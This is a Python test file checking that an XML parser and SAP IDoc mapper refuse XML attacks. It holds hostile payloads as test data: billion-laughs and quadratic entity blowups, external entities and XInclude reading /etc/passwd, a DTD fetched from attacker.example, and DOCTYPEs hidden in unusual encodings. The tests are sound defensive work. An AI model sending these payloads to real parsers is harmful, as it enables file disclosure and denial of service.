"""The hardened XML parser refuses every classic XML attack, and the IDoc mapper turns that into a reject."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from mfgcanon import codecs
from mfgcanon.errors import MappingError
from mfgcanon.mappers import MappingContext, get
from mfgcanon.mappers._xml import parse_xml

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<LOIPRO05><IDOC><E1AFKOL><AUFNR>&lol3;</AUFNR></E1AFKOL></IDOC></LOIPRO05>"""
QUADRATIC = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "' + b"A" * 50000 + b'">]><x>' + b"&a;" * 1000 + b"</x>"
EXTERNAL = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x><IDOC>&e;</IDOC></x>'
EXTERNAL_DTD = b'<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://attacker.example/evil.dtd"><x><IDOC/></x>'
PARAMETER = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]><x><IDOC/></x>'
XINCLUDE = (
    b'<x xmlns:xi="http://www.w3.org/2001/XInclude"><IDOC><xi:include href="file:///etc/passwd" '
    b'parse="text"/></IDOC></x>'
)


@pytest.mark.parametrize(
    "doc",
    [BILLION_LAUGHS, QUADRATIC, EXTERNAL, EXTERNAL_DTD, PARAMETER, XINCLUDE],
    ids=["billion-laughs", "quadratic-blowup", "external-entity", "external-dtd", "parameter-entity", "xinclude"],
)
def test_attack_is_refused(doc: bytes) -> None:
    with pytest.raises(MappingError) as info:
        parse_xml(doc)
    assert info.value.code == "xml_forbidden"
    result = get("sap-idoc").to_canonical(doc, MappingContext(source_system="X"))
    assert [r.code for r in result.rejects] == ["xml_forbidden"]
    assert not result.events
    assert b"root:" not in repr(result).encode()  # nothing of /etc/passwd was read


def test_oversized_document_is_refused() -> None:
    doc = b"<LOIPRO05><IDOC>" + b"<X>1</X>" * 2000 + b"</IDOC></LOIPRO05>"
    with pytest.raises(MappingError) as info:
        parse_xml(doc, max_bytes=1000)
    assert info.value.code == "document_too_large"
    context = MappingContext(source_system="X", options={"max_document_bytes": 1000})
    assert [r.code for r in get("sap-idoc").to_canonical(doc, context).rejects] == ["document_too_large"]


def test_malformed_xml_names_the_line() -> None:
    with pytest.raises(MappingError) as info:
        parse_xml(b"<a>\n<b>\n</a>")
    assert info.value.code == "malformed_xml"
    assert info.value.position == 3
    assert "(line 3)" in str(info.value)  # an XML line, not a byte offset
    assert "byte" not in str(info.value)


def test_decode_errors_still_say_byte() -> None:
    from mfgcanon.errors import DecodeError

    assert "(byte 22)" in str(DecodeError("bad", position=22))


@pytest.mark.parametrize("depth", [300, 5000])
def test_absurd_nesting_is_a_reject_not_a_crash(depth: int) -> None:
    doc = b"<LOIPRO05><IDOC>" + b"<A>" * depth + b"x" + b"</A>" * depth + b"</IDOC></LOIPRO05>"
    result = get("sap-idoc").to_canonical(doc, MappingContext(source_system="X"))
    result.assert_balanced()
    assert result.rejects
    assert not result.events


def test_utf16_idoc_reads_like_utf8() -> None:
    from .conftest import sample

    ctx = MappingContext.build(source_system="S4H-100", plants={"1710": "America/Los_Angeles"})
    text = sample("idoc_mbgmcr03_goods_issue_261.xml").decode("utf-8")
    text = text.replace('encoding="UTF-8"', 'encoding="UTF-16"').replace("encoding='UTF-8'", "encoding='UTF-16'")
    wide = get("sap-idoc").to_canonical(text.encode("utf-16"), ctx)
    narrow = get("sap-idoc").to_canonical(sample("idoc_mbgmcr03_goods_issue_261.xml"), ctx)
    assert not wide.rejects
    assert [e.id for e in wide.events] == [e.id for e in narrow.events]


def test_reject_locations_come_from_the_lxml_tree() -> None:
    """A reject names the XPath and the line of the element, as lxml numbers them."""
    from .conftest import sample

    ctx = MappingContext.build(source_system="S4H-100", plants={"1710": "America/Los_Angeles"})
    doc = sample("idoc_mbgmcr03_goods_issue_261.xml")
    second = doc.index(b"<MOVE_TYPE>", doc.index(b"<MOVE_TYPE>") + 1)
    bad = doc[:second] + b"<MOVE_TYPE></MOVE_TYPE><X/>" + doc[doc.index(b"</MOVE_TYPE>", second) + 12 :]
    result = get("sap-idoc").to_canonical(bad, ctx)
    assert len(result.events) == 1
    (reject,) = result.rejects
    assert reject.location.endswith("/E1BP2017_GM_ITEM_CREATE[2]/MOVE_TYPE"), reject.location
    assert reject.line == bad[:second].count(b"\n") + 1
    assert isinstance(reject.payload, str)
    assert reject.payload.startswith("<E1BP2017_GM_ITEM_CREATE")


# --- every encoding libxml2 reads: the DOCTYPE is refused before parsing, and nothing is ever opened ----------

# (codec, byte order mark, encoding declared): UTF-8/16/32 with and without a BOM, both byte orders
ENCODED = [
    ("utf-8", b"", "UTF-8"),
    ("utf-8", b"\xef\xbb\xbf", "UTF-8"),
    ("utf-16-le", b"", "UTF-16LE"),
    ("utf-16-le", b"\xff\xfe", "UTF-16"),
    ("utf-16-be", b"", "UTF-16BE"),
    ("utf-16-be", b"\xfe\xff", "UTF-16"),
    ("utf-32-le", b"", "UTF-32LE"),
    ("utf-32-le", b"\xff\xfe\x00\x00", "UTF-32"),
    ("utf-32-be", b"", "UTF-32BE"),
    ("utf-32-be", b"\x00\x00\xfe\xff", "UTF-32"),
]
ENCODED_IDS = [f"{codec}{'-bom' if bom else ''}" for codec, bom, _ in ENCODED]


def _doc(doctype: str, codec: str = "utf-8", bom: bytes = b"", declared: str = "UTF-8") -> bytes:
    text = f'<?xml version="1.0" encoding="{declared}"?>{doctype}<MBGMCR03><IDOC>&inject;</IDOC></MBGMCR03>'
    return bom + text.encode(codec)


def _external_dtd(tmp_path: Path) -> Path:
    """A DTD file that, if libxml2 ever read it, would declare a marker entity and then break the parse."""
    dtd = tmp_path / "evil.dtd"
    dtd.write_text('<!ENTITY inject "MARKER-INJECTED">\n<!BROKEN this is not a declaration>\n')
    return dtd


def _refused_unread(doc: bytes) -> None:
    """xml_forbidden from the parser and the mapper alike, and nothing of the DTD file in the result (reading
    it would give malformed_xml from its broken declaration, or the marker)."""
    with pytest.raises(MappingError) as info:
        parse_xml(doc)
    assert info.value.code == "xml_forbidden", info.value
    result = get("sap-idoc").to_canonical(doc, MappingContext(source_system="X"))
    assert [r.code for r in result.rejects] == ["xml_forbidden"]
    assert "MARKER" not in repr(result)
    assert "BROKEN" not in repr(result)


@pytest.mark.parametrize(("codec", "bom", "declared"), ENCODED, ids=ENCODED_IDS)
def test_external_dtd_is_refused_in_every_encoding(tmp_path: Path, codec: str, bom: bytes, declared: str) -> None:
    dtd = _external_dtd(tmp_path)
    _refused_unread(_doc(f'<!DOCTYPE MBGMCR03 SYSTEM "{dtd}">', codec, bom, declared))
    _refused_unread(_doc(f'<!DOCTYPE MBGMCR03 [<!ENTITY % p SYSTEM "{dtd}"> %p;]>', codec, bom, declared))


@pytest.mark.parametrize(
    ("codec", "declared", "doctype"),
    [
        ("cp037", "IBM037", '<!DOCTYPE x SYSTEM "{dtd}">'),  # EBCDIC
        ("ascii", "UTF-7", '+ADwAIQ-DOCTYPE x SYSTEM "{dtd}">'),  # UTF-7 for "<!DOCTYPE", without its bytes
        ("iso-2022-jp", "ISO-2022-JP", '<!DOC\x1b(BTYPE x SYSTEM "{dtd}">'),  # an escape inside the keyword
        ("latin-1", "HZ-GB-2312", '<!DOC~\nTYPE x SYSTEM "{dtd}">'),  # HZ line continuation inside it
        ("latin-1", "JAVA", '\\u003c!DOCTYPE x SYSTEM "{dtd}">'),  # libiconv's JAVA escapes
    ],
    ids=["ebcdic", "utf-7", "iso-2022-jp", "hz", "java"],
)
def test_encodings_that_hide_a_doctype_are_refused(tmp_path: Path, codec: str, declared: str, doctype: str) -> None:
    dtd = _external_dtd(tmp_path)
    doc = _doc(doctype.format(dtd=dtd), codec, b"", declared)
    assert b"<!DOCTYPE" not in doc or codec == "cp037"
    _refused_unread(doc)


def test_the_parser_itself_loads_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Second line of defence: with the scan before parsing switched off, the parser still opens no external
    subset or parameter entity (its resolver refuses everything) and refuses the DOCTYPE it parsed."""
    from mfgcanon.mappers import _xml

    monkeypatch.setattr(_xml, "_refusal", lambda data: None)
    dtd = _external_dtd(tmp_path)
    for doctype in (
        f'<!DOCTYPE MBGMCR03 SYSTEM "{dtd}">',
        f'<!DOCTYPE MBGMCR03 PUBLIC "-//X//Y" "{dtd}">',
        f'<!DOCTYPE MBGMCR03 [<!ENTITY % p SYSTEM "{dtd}"> %p;]>',
        f'<!DOCTYPE MBGMCR03 [<!ENTITY inject SYSTEM "{dtd}">]>',
    ):
        for codec, bom, declared in ENCODED:
            _refused_unread(_doc(doctype, codec, bom, declared))


_FIFO_SCRIPT = """
import sys
from mfgcanon.mappers import MappingContext, _xml, get
if sys.argv[2] == "parser-only":
    _xml._refusal = lambda data: None
doc = open(sys.argv[1], "rb").read()
result = get("sap-idoc").to_canonical(doc, MappingContext(source_system="X"))
print(",".join(r.code for r in result.rejects))
"""


@pytest.mark.parametrize("layer", ["scan", "parser-only"])
@pytest.mark.parametrize(("codec", "bom", "declared"), [ENCODED[4], ENCODED[7]], ids=["utf-16-be", "utf-32-bom"])
def test_a_fifo_as_external_dtd_does_not_hang(
    tmp_path: Path, layer: str, codec: str, bom: bytes, declared: str
) -> None:
    """A DTD path naming a FIFO would block the mapper forever in open(): it must never be opened."""
    fifo = tmp_path / "fifo.dtd"
    os.mkfifo(fifo)
    doc = tmp_path / "doc.xml"
    doc.write_bytes(_doc(f'<!DOCTYPE MBGMCR03 SYSTEM "{fifo}">', codec, bom, declared))
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(p for p in sys.path if p)}
    try:
        done = subprocess.run(
            [sys.executable, "-c", _FIFO_SCRIPT, str(doc), layer], capture_output=True, text=True, timeout=60, env=env
        )
    except subprocess.TimeoutExpired:
        pytest.fail("the mapper hung opening the FIFO named as external DTD")
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == "xml_forbidden"


@pytest.mark.parametrize(
    "namespace",
    ["http://www.w3.org/2001/X&#73;nclude", "http://www.w3.org/2001/&#x58;Include", "http://www.w3.org/2003/XInclude"],
)
def test_xinclude_is_refused_however_the_namespace_is_spelt(namespace: str) -> None:
    doc = (
        f'<MBGMCR03 xmlns:xi="{namespace}"><IDOC><xi:include href="file:///etc/passwd" parse="text"/></IDOC>'
        "</MBGMCR03>"
    ).encode()
    assert b"XInclude" not in doc or "2003" in namespace
    with pytest.raises(MappingError) as info:
        parse_xml(doc)
    assert info.value.code == "xml_forbidden"
    assert info.value.position == 1
    result = get("sap-idoc").to_canonical(doc, MappingContext(source_system="X"))
    assert [r.code for r in result.rejects] == ["xml_forbidden"]


@pytest.mark.parametrize(
    ("codec", "bom", "declared"),
    [*ENCODED[2:], ("latin-1", b"", "ISO-8859-1"), ("cp1252", b"", "windows-1252")],
    ids=[*ENCODED_IDS[2:], "latin-1", "cp1252"],
)
def test_accepted_encodings_read_like_utf8(codec: str, bom: bytes, declared: str) -> None:
    from .conftest import sample

    ctx = MappingContext.build(source_system="S4H-100", plants={"1710": "America/Los_Angeles"})
    narrow = sample("idoc_mbgmcr03_goods_issue_261.xml")
    text = narrow.decode("utf-8").replace('encoding="UTF-8"', f'encoding="{declared}"')
    text = text.replace("backflush override", "backflush \u00fcberschrieben")
    wide = get("sap-idoc").to_canonical(bom + text.encode(codec), ctx)
    assert not wide.rejects, wide.rejects
    reference = get("sap-idoc").to_canonical(text.replace(f'encoding="{declared}"', 'encoding="UTF-8"').encode(), ctx)
    assert [codecs.encode(e) for e in wide.events] == [codecs.encode(e) for e in reference.events]


def test_a_lone_surrogate_in_text_is_a_reject() -> None:
    """Text that is not Unicode cannot be XML: a reject with the text (escaped), never UnicodeEncodeError."""
    result = get("sap-idoc").to_canonical("<MBGMCR03><IDOC>\ud800</IDOC></MBGMCR03>", MappingContext(source_system="X"))
    (reject,) = result.rejects
    assert reject.code == "malformed_xml"
    assert "\\ud800" in reject.payload
    reject.payload.encode("utf-8")  # writable as it is
